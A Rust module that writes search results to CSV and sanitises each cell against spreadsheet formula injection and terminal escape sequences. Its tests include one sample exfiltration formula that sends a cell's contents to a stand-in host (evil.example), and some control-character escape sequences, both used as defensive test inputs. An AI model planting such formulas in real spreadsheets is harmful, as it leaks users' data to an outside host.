//! Prints hits as comma-separated values.

use std::io::{self, Write};

use csv::WriterBuilder;

use crate::search::{Hit, Results};

const COLUMNS: [&str; 22] = [
    "query_id",
    "query",
    "rank",
    "score",
    "id",
    "title",
    "outlet_id",
    "outlet",
    "authors",
    "published",
    "url",
    "source",
    "member",
    "line",
    "sha256",
    "start",
    "end",
    "passage",
    "part",
    "published_precision",
    "place",
    "duplicates",
];

pub(super) fn header(out: &mut dyn Write) -> io::Result<()> {
    row(COLUMNS.map(String::from), out)
}

pub(super) fn rows(id: Option<&str>, text: &str, results: &Results, out: &mut dyn Write) -> io::Result<()> {
    for hit in &results.hits {
        row(cells(id.unwrap_or_default(), text, hit), out)?;
    }
    Ok(())
}

fn cells(query_id: &str, query: &str, hit: &Hit) -> [String; COLUMNS.len()] {
    let document = &hit.document;
    let outlet = document.metadata.outlet.as_ref();
    let place = document.provenance.place.as_ref();
    [
        query_id.into(),
        query.into(),
        hit.rank.to_string(),
        hit.passage.score.to_string(),
        document.id.clone(),
        document.title.clone(),
        outlet.map(|outlet| outlet.id.clone()).unwrap_or_default(),
        outlet.map(|outlet| outlet.name.clone()).unwrap_or_default(),
        document.metadata.authors.join("; "),
        document.metadata.published.map(|date| date.to_string()).unwrap_or_default(),
        document.metadata.url.clone().unwrap_or_default(),
        document.provenance.source.clone(),
        place.and_then(|place| place.member.clone()).unwrap_or_default(),
        place.and_then(|place| place.line).map(|line| line.to_string()).unwrap_or_default(),
        document.provenance.sha256.clone(),
        hit.passage.range.start.to_string(),
        hit.passage.range.end.to_string(),
        hit.text.clone(),
        hit.part().map(|part| part.to_string()).unwrap_or_default(),
        document.metadata.published.map(|date| date.precision().name().into()).unwrap_or_default(),
        document.metadata.place.clone().unwrap_or_default(),
        hit.duplicates.iter().map(|(heading, _)| heading.id.as_str()).collect::<Vec<_>>().join("; "),
    ]
}

fn row(cells: [String; COLUMNS.len()], out: &mut dyn Write) -> io::Result<()> {
    let mut writer = WriterBuilder::new().from_writer(out);
    writer.write_record(cells.map(harmless))?;
    writer.flush()
}

/// A cell that spreadsheets do not read as a formula, which could leak other cells, and terminals not as a command.
pub(super) fn harmless(cell: String) -> String {
    let is_harmless = |char: char| !char.is_control() || matches!(char, '\n' | '\r' | '\t');
    let cell = cell.replace(|char| !is_harmless(char), "\u{FFFD}");
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{cell}") } else { cell }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_cell_is_a_formula() {
        assert_eq!(harmless("=HYPERLINK(\"//evil.example\"&A1)".into()), "'=HYPERLINK(\"//evil.example\"&A1)");
        assert_eq!(harmless("- قال".into()), "'- قال");
        assert_eq!(harmless("سجن = 1".into()), "سجن = 1");
    }

    #[test]
    fn no_cell_commands_a_terminal() {
        assert_eq!(harmless("سجن\n\u{1b}[31m\u{9b}\u{7f}".into()), "سجن\n\u{FFFD}[31m\u{FFFD}\u{FFFD}");
    }
}
